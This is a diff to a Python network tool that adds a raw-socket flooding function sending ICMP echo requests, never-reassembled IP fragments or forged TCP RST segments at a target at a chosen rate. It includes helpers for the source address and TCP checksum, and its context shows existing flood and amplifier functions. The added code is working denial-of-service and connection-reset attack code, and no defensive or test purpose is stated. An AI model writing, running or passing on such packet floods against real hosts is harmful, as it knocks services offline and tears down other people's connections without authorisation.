@@ -150,6 +150,47 @@ def flood(host, port, rate, seconds):
     return sent
 
 
+def raw_flood(kind, host, port, rate, seconds):
+    """Sends so many packets of a kind a second: messages, fragments, resets; tells how many."""
+    number = {"messages": 1, "fragments": 17, "resets": 6}[kind]
+    # an echo request; a piece from the middle of a datagram that never gets whole; an RST of no connection
+    body = {
+        "messages": struct.pack("!BBHHH", 8, 0, 0xF7FE, 0, 1),
+        "fragments": bytes(16),
+        "resets": struct.pack("!HHIIBBHHH", 443, int(port), 7, 0, 0x50, 4, 0, 0, 0),
+    }[kind]
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, number)
+    sent, began = 0, time.time()
+    if kind == "fragments":
+        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+        header = struct.pack("!BBHHHBBH", 0x45, 0, 36, 0, 0x2001, 64, 17, 0)
+        body = header + source_of(host) + socket.inet_aton(host) + body
+    if kind == "resets":
+        body = body[:16] + struct.pack("!H", tcp_sum(source_of(host), socket.inet_aton(host), body)) + body[18:]
+    while sent < int(rate) * int(seconds):
+        for _ in range(int(rate) // 20):
+            sock.sendto(body, (host, 0))
+            sent += 1
+        time.sleep(max(0, began + sent / int(rate) - time.time()))
+    return sent
+
+
+def source_of(host):
+    """The address that packets to a host come from."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.connect((host, 9))
+        return socket.inet_aton(sock.getsockname()[0])
+
+
+def tcp_sum(source, destination, segment):
+    """RFC 9293, 3.1."""
+    data = source + destination + struct.pack("!HH", 6, len(segment)) + segment
+    words = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while words >> 16:
+        words = (words & 0xFFFF) + (words >> 16)
+    return ~words & 0xFFFF
+
+
 def amplifier(host, port, size, count):
     """Answers each of so many datagrams with that many bytes; tells its pid and the bytes both ways."""
     received = 0
